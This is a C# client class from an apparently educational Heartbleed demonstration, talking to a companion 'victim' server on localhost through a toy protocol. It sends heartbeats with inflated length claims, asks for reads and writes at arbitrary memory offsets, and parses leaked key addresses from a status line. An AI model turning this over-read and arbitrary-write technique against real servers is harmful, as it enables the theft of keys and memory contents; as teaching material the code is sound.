using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;
using Heartbleed.Victim;

namespace Heartbleed.Attack;

/// <summary>Speaks the protocol: honestly, or with the numbers of an attacker.</summary>
internal sealed partial class Client : IDisposable
{
    private readonly TcpClient _connection;
    private readonly NetworkStream _stream;

    /// <summary>Connects to a server on this machine. A server that stays silent for 30 seconds is an <see cref="IOException"/>.</summary>
    public Client(int port)
    {
        _connection = new TcpClient { ReceiveTimeout = 30_000, SendTimeout = 30_000 };
        _connection.Connect(IPAddress.Loopback, port);
        _stream = _connection.GetStream();
    }

    /// <summary>A heartbeat. Its payload claims to have <paramref name="claimedLength"/> bytes.</summary>
    public Reply Heartbeat(string payload, ushort claimedLength)
    {
        byte[] body = [(byte)(claimedLength >> 8), (byte)claimedLength, .. Encoding.ASCII.GetBytes(payload)];
        return Ask(ContentType.Heartbeat, body);
    }

    /// <summary>Asks for the tag of a message.</summary>
    public Reply Sign(string message) => Ask(ContentType.Sign, Encoding.ASCII.GetBytes(message));

    /// <summary>Asks for <paramref name="count"/> bytes at an offset from the record, in bytes.</summary>
    public Reply Resend(long offset, ushort count)
    {
        byte[] body = new byte[10];
        BinaryPrimitives.WriteInt64LittleEndian(body, offset);
        BinaryPrimitives.WriteUInt16LittleEndian(body.AsSpan(8), count);
        return Ask(ContentType.Resend, body);
    }

    /// <summary>Has a value written at an offset from the record, in bytes.</summary>
    public Reply Store(long offset, ulong value)
    {
        byte[] body = new byte[16];
        BinaryPrimitives.WriteInt64LittleEndian(body, offset);
        BinaryPrimitives.WriteUInt64LittleEndian(body.AsSpan(8), value);
        return Ask(ContentType.Store, body);
    }

    /// <summary>Reads the two addresses out of the server's status line.</summary>
    /// <returns>How far the key lies from the record, in bytes, and the key's address.</returns>
    public LeakedAddresses ReadStatus()
    {
        string line = Encoding.ASCII.GetString(Ask(ContentType.Status, []).Body);
        Match match = AddressesInStatus().Match(line);
        if (!match.Success)
            throw new InvalidDataException($"The status line '{line}' names no addresses.");
        return new LeakedAddresses(Convert.ToInt64(match.Groups[1].Value, 16), Convert.ToInt64(match.Groups[2].Value, 16));
    }

    public void Dispose()
    {
        _stream.Dispose();
        _connection.Dispose();
    }

    private Reply Ask(ContentType type, byte[] body)
    {
        byte[] request = [(byte)type, (byte)(body.Length >> 8), (byte)body.Length, .. body];
        _stream.Write(request);

        byte[] header = new byte[3];
        _stream.ReadExactly(header);
        byte[] answer = new byte[BinaryPrimitives.ReadUInt16BigEndian(header.AsSpan(1))];
        _stream.ReadExactly(answer);
        return new Reply((ContentType)header[0], answer);
    }

    [GeneratedRegex("record=0x([0-9a-f]+) key=0x([0-9a-f]+)")]
    private static partial Regex AddressesInStatus();
}
